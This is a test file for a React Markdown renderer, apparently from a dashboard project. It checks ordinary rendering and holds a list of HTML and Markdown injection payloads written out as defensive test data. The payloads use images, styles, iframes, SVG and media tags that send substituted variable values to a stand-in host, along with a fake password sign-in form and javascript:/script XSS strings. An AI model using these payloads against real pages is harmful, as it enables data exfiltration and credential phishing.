// @vitest-environment jsdom
import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { Markdown } from './Markdown';

vi.mock('@perses-dev/plugin-system', () => ({ useReplaceVariablesInString: (text: string) => text.replaceAll('$found', 'llm-research=42') }));
afterEach(cleanup);

describe('the text of an author', () => {
  it('is drawn with headings, lists, tables, code and links, and the values of variables', () => {
    render(<Markdown text={'# Of $found\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code` and [more](https://docs.example/?d=$found)'} />);
    expect(screen.getByRole('heading', { level: 1 }).textContent).toBe('Of llm-research=42');
    expect(screen.getAllByRole('listitem')).toHaveLength(1);
    expect(screen.getAllByRole('cell').map(({ textContent }) => textContent)).toEqual(['1', '2']);
    expect(screen.getByText('code').tagName).toBe('CODE');
    expect(screen.getByRole('link').getAttribute('href')).toBe('https://docs.example/?d=llm-research=42');
  });

  it('tells an image by its description', () => {
    const { container } = render(<Markdown text="![the racks](https://elsewhere.example/?d=$found)" />);
    expect(container.textContent.trim()).toBe('the racks');
  });

  it.each([
    ['an image', '![x](https://elsewhere.example/?d=$found)'],
    ['an image in HTML', '<img src="https://elsewhere.example/?d=$found" srcset="https://elsewhere.example/?d=$found 2x">'],
    ['a style sheet', 'x <style>body{background:url(https://elsewhere.example/?d=$found)}</style>'],
    ['a style', '<p style="position:fixed;inset:0;background:url(https://elsewhere.example/?d=$found)">Session expired</p>'],
    ['a form', '<form action="https://elsewhere.example/"><input name="password"><button>Sign in</button></form>'],
    ['a film', '<video poster="https://elsewhere.example/?d=$found"><source src="https://elsewhere.example/?d=$found"></video>'],
    ['a drawing', '<svg><image href="https://elsewhere.example/?d=$found"/></svg>'],
    ['a frame', '<iframe src="https://elsewhere.example/?d=$found"></iframe>'],
    ['an old background', '<table background="https://elsewhere.example/?d=$found"><tr><td>x</td></tr></table>'],
    ['a reference', '<link rel="stylesheet" href="https://elsewhere.example/?d=$found">'],
  ])('carries nothing anywhere by %s', (_name, text) => {
    const { container } = render(<Markdown text={text} />);
    expect(container.innerHTML).not.toContain('elsewhere.example');
  });

  it('runs no script', () => {
    const { container } = render(<Markdown text={'[a](javascript:alert(1)) <a href="javascript:alert(1)" onclick="alert(1)">b</a> <script>alert(1)</script>'} />);
    expect(container.innerHTML).not.toMatch(/script|alert/);
  });
});
